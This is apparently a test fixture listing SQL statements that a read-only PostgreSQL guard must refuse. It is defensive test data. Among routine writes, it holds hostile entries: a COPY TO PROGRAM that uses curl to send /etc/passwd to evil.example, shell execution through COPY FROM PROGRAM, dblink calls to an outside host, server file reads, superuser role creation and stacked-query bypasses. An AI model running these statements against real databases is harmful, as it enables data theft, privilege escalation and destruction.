-- Hostile statements for the PostgreSQL guard: every entry must be refused.
-- Entries are separated by a line containing only "-- next"; a chunk made only
-- of "--" comment lines (like this header) is not an entry.
-- next
INSERT INTO t VALUES (1)
-- next
UPDATE t SET a = 1
-- next
DELETE FROM t
-- next
MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE
-- next
DROP TABLE t
-- next
CREATE TABLE x (a int)
-- next
CREATE TABLE x AS SELECT * FROM t
-- next
CREATE VIEW v AS SELECT 1
-- next
CREATE INDEX i ON t (a)
-- next
ALTER TABLE t ADD COLUMN b int
-- next
TRUNCATE t
-- next
TRUNCATE TABLE t CASCADE
-- next
COPY t TO PROGRAM 'curl -d @/etc/passwd http://evil.example/'
-- next
COPY t FROM PROGRAM 'id'
-- next
COPY t FROM '/etc/passwd'
-- next
COPY (SELECT * FROM t) TO '/tmp/out.csv'
-- next
GRANT ALL ON t TO PUBLIC
-- next
REVOKE SELECT ON t FROM PUBLIC
-- next
CREATE ROLE attacker LOGIN SUPERUSER PASSWORD 'x'
-- next
CREATE USER attacker
-- next
DROP ROLE reader
-- next
ALTER ROLE reader SUPERUSER
-- next
ALTER SYSTEM SET log_statement = 'none'
-- next
ALTER DATABASE postgres SET default_transaction_read_only = off
-- next
DROP DATABASE postgres
-- next
SET default_transaction_read_only = off
-- next
SET TRANSACTION READ WRITE
-- next
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
-- next
SET statement_timeout = 0
-- next
SET ROLE postgres
-- next
SET SESSION AUTHORIZATION postgres
-- next
RESET ALL
-- next
COMMIT; DROP TABLE x
-- next
SELECT 1; DELETE FROM t
-- next
SELECT 1;
DROP TABLE t;
-- next
select * from t; truncate t
-- next
BEGIN
-- next
START TRANSACTION READ WRITE
-- next
ROLLBACK
-- next
SAVEPOINT s
-- next
CALL do_something()
-- next
DO $$BEGIN EXECUTE 'DROP TABLE t'; END$$
-- next
PREPARE p AS DELETE FROM t
-- next
EXECUTE p
-- next
DEALLOCATE ALL
-- next
LISTEN chan
-- next
NOTIFY chan, 'x'
-- next
UNLISTEN *
-- next
VACUUM FULL t
-- next
ANALYZE t
-- next
LOCK TABLE t IN ACCESS EXCLUSIVE MODE
-- next
REFRESH MATERIALIZED VIEW mv
-- next
CLUSTER t
-- next
REINDEX TABLE t
-- next
DISCARD ALL
-- next
CHECKPOINT
-- next
LOAD 'plpgsql'
-- next
CREATE EXTENSION dblink
-- next
CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql
-- next
COMMENT ON TABLE t IS 'x'
-- next
DECLARE c CURSOR FOR SELECT * FROM t
-- next
WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d
-- next
WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT count(*) FROM u
-- next
WITH i AS (INSERT INTO t VALUES (1) RETURNING id) SELECT id FROM i
-- next
WITH x AS (SELECT 1) DELETE FROM t
-- next
SELECT * FROM (
  WITH d AS (DELETE FROM t RETURNING *)
  SELECT * FROM d
) s
-- next
WITH a AS (SELECT 1),
     b AS (WITH c AS (DELETE FROM t RETURNING id) SELECT id FROM c)
SELECT * FROM a, b
-- next
SELECT * INTO newt FROM t
-- next
SELECT * INTO TEMP newt FROM t
-- next
SELECT * FROM t FOR UPDATE
-- next
SELECT * FROM t FOR SHARE
-- next
SELECT * FROM t FOR NO KEY UPDATE
-- next
SELECT * FROM t FOR KEY SHARE
-- next
SELECT * FROM t FOR UPDATE SKIP LOCKED
-- next
SELECT * FROM (SELECT * FROM t FOR UPDATE) s
-- next
SELECT pg_sleep(100)
-- next
SELECT pg_catalog.pg_sleep(100)
-- next
SELECT "pg_catalog"."PG_SLEEP"(100)
-- next
SELECT public.pg_sleep(100)
-- next
SELECT PG_SLEEP(100)
-- next
SELECT pg_sleep /* a comment */ (100)
-- next
SELECT pg_sleep
  (100)
-- next
SELECT pg_sleep_for('1 hour')
-- next
SELECT 1 WHERE pg_sleep(10) IS NOT NULL
-- next
SELECT * FROM t ORDER BY pg_sleep(1)
-- next
SELECT CASE WHEN a > 0 THEN pg_sleep(1) END FROM t
-- next
SELECT * FROM t WHERE id IN (SELECT pg_sleep(1))
-- next
SELECT * FROM pg_read_file('/etc/passwd')
-- next
SELECT * FROM pg_ls_dir('.')
-- next
SELECT pg_read_binary_file('/etc/passwd')
-- next
SELECT length(pg_read_file('/etc/passwd'))
-- next
WITH x AS (SELECT pg_read_file('/etc/passwd') AS f) SELECT f FROM x
-- next
SELECT (SELECT pg_ls_dir('/'))
-- next
SELECT * FROM t WHERE EXISTS (SELECT 1 FROM pg_ls_dir('/'))
-- next
SELECT * FROM t JOIN LATERAL pg_ls_dir(t.path) d ON true
-- next
SELECT string_agg(x, ',') FROM pg_ls_dir('/') AS x
-- next
SELECT pg_ls_logdir()
-- next
SELECT pg_stat_file('postgresql.conf')
-- next
SELECT lo_import('/etc/passwd')
-- next
SELECT lo_export(12345, '/tmp/x')
-- next
SELECT lo_get(12345)
-- next
SELECT loread(lo_open(12345, 262144), 1000)
-- next
SELECT dblink_exec('host=evil.example', 'DROP TABLE t')
-- next
SELECT * FROM dblink('dbname=postgres', 'DELETE FROM t RETURNING 1') AS t(a int)
-- next
SELECT set_config('default_transaction_read_only', 'off', false)
-- next
SELECT nextval('seq')
-- next
SELECT setval('seq', 1)
-- next
SELECT 1 UNION ALL SELECT nextval('seq')
-- next
SELECT pg_advisory_lock(1)
-- next
SELECT pg_try_advisory_xact_lock(1)
-- next
SELECT pg_terminate_backend(pid) FROM pg_stat_activity
-- next
SELECT pg_cancel_backend(1)
-- next
SELECT pg_reload_conf()
-- next
SELECT pg_notify('chan', 'x')
-- next
SELECT query_to_xml('DELETE FROM t RETURNING *', true, false, '')
-- next
SELECT ts_stat('SELECT to_tsvector(body) FROM t')
-- next
SELECT txid_current()
-- next
SELECT pg_stat_reset()
-- next
SELECT pg_create_logical_replication_slot('s', 'pgoutput')
-- next
SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)
-- next
SELECT pg_switch_wal()
-- next
SELECT pg_promote()
-- next
EXPLAIN ANALYZE SELECT * FROM t
-- next
EXPLAIN ANALYZE DELETE FROM t
-- next
EXPLAIN (ANALYZE) SELECT 1
-- next
EXPLAIN (ANALYZE true, FORMAT JSON) SELECT 1
-- next
EXPLAIN (FORMAT JSON, ANALYZE) SELECT 1
-- next
EXPLAIN DELETE FROM t
-- next
EXPLAIN SELECT pg_sleep(10)
-- next
SELECT $0
-- next
-- sqlparser stops at END after a statement: the rest must not be skipped
SELECT a FROM t END; DROP TABLE t
-- next
SELECT 1 END DELETE FROM t
